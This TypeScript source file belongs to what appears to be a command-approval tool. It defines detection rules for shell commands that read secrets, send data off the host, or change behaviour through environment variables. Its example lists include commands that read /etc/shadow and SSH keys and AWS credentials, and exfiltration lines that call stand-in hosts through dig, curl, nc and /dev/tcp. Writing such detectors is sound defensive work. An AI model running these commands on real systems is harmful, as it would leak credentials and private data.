// What a command exposes: secrets it prints into the log, data it sends off the host, and environment assignments
// that change what the program does. Each needs an approval; assignments that make a program run other code are
// opaque-code (rules-opaque.ts).
import type { Invocation } from './args.ts';
import { named } from './args.ts';
import { assignmentRunsCode, unsafeAssignment, wrapperAssignments } from './environment.ts';
import type { Word } from './parse.ts';
import type { Rule } from './rule.ts';
import { OPAQUE_CODE_RULE } from './rules-opaque.ts';
import { secretRead } from './secrets.ts';

export const ENVIRONMENT_RULE: Rule = {
  id: 'environment-assignment',
  class: 'config_mutation',
  reason: 'sets an environment variable that changes what the program does',
  examples: ['FOO=1 ls', 'HOME=/tmp ls', 'env DEBUG=1 ls', 'sudo HTTP_PROXY=http://p:3128 ls', 'LANG=C TZ=UTC FOO=2 ls'],
  match: (inv) => unsafeAssignment(wrapperAssignments(inv)) !== undefined,
  detail: (inv) => unsafeAssignment(wrapperAssignments(inv)),
};

/** The rule and reason for the assignments written before a command (`X=1 cmd`), or undefined when all are safe. */
export function assignmentFinding(assigns: readonly Word[]): { readonly rule: Rule; readonly why: string } | undefined {
  const code = assignmentRunsCode(assigns);
  if (code !== undefined) return { rule: OPAQUE_CODE_RULE, why: `${OPAQUE_CODE_RULE.reason}: ${code}` };
  const unsafe = unsafeAssignment(assigns);
  return unsafe === undefined ? undefined : { rule: ENVIRONMENT_RULE, why: `${ENVIRONMENT_RULE.reason}: ${unsafe}` };
}

export const SECRET_RULE: Rule = {
  id: 'reads-secret',
  class: 'config_mutation',
  reason: 'reads a secret: its contents would be kept in the log every auditor reads',
  examples: [
    'cat /etc/shadow',
    'sudo head -n1 /etc/gshadow',
    'tail ~/.ssh/id_ed25519',
    'base64 -w0 /root/.ssh/id_rsa',
    'xxd /etc/ssh/ssh_host_ed25519_key',
    'grep -r key /etc/pve/priv',
    'less /root/.aws/credentials',
    'cp ~/.kube/config /tmp/k',
    'cat /proc/1/environ',
    'wc -l < /etc/shadow',
    'cat /etc/ssl/private/ssl-cert-snakeoil.key',
    "pct exec 132 -- sh -c 'cat /opt/app/.env'",
    'dd if=/etc/shadow',
  ],
  match: (inv) => secretRead(inv) !== undefined,
  detail: secretRead,
};

/** Tools that reach another host: what they are given leaves the machine (in a URL, a query, a DNS name, a body). */
const NETWORK_TOOLS = [
  'curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'telnet', 'ssh', 'scp', 'sftp', 'rsync', 'dig', 'nslookup', 'host',
  'drill', 'ping', 'ping6', 'traceroute', 'tracepath', 'mtr', 'http', 'https', 'xh', 'ftp', 'tftp', 'lftp', 'whois',
  'openssl', 'mail', 'mailx', 'sendmail', 'swaks',
];

/** The first argument built at run time (a substitution or a variable), in a network tool. */
function builtAtRunTime(inv: Invocation): string | undefined {
  if (!named(...NETWORK_TOOLS)(inv)) return undefined;
  return inv.args.find((w) => w.value === undefined)?.text;
}

const NET_DEVICE = /^\/dev\/(tcp|udp)\//;

/** bash opens a connection for a redirection to /dev/tcp/HOST/PORT: the command's output goes to that host. */
function socketRedirect(inv: Invocation): string | undefined {
  return inv.redirects.find((r) => r.op !== '<' && NET_DEVICE.test(r.target.value ?? r.target.prefix))?.target.text;
}

const exfiltration = (inv: Invocation): string | undefined => {
  const socket = socketRedirect(inv);
  if (socket !== undefined) return `its output is sent to ${socket}`;
  const built = builtAtRunTime(inv);
  return built === undefined ? undefined : `${built} is only known at run time, so what it sends off the host is unseen`;
};

export const EXFILTRATION_RULE: Rule = {
  id: 'exfiltration',
  class: 'config_mutation',
  reason: 'may send data off the host (exfiltration)',
  examples: [
    'curl "http://x/?d=$(hostname)"',
    'curl http://x/$TOKEN',
    'wget -qO- "https://x/$(id -u)"',
    'dig "$(whoami).attacker.example"',
    'nslookup $(cat /etc/hostname).x.example',
    'echo hi | nc $HOST 9000',
    "bash -c 'echo hi > /dev/tcp/10.0.0.9/80'",
    'ping -c1 "$(uname -n).x.example"',
    'curl -G -d "q=$(uptime)" https://x/',
  ],
  match: (inv) => exfiltration(inv) !== undefined,
  detail: exfiltration,
};

export const EXPOSURE_RULES: readonly Rule[] = [EXFILTRATION_RULE, SECRET_RULE, ENVIRONMENT_RULE];
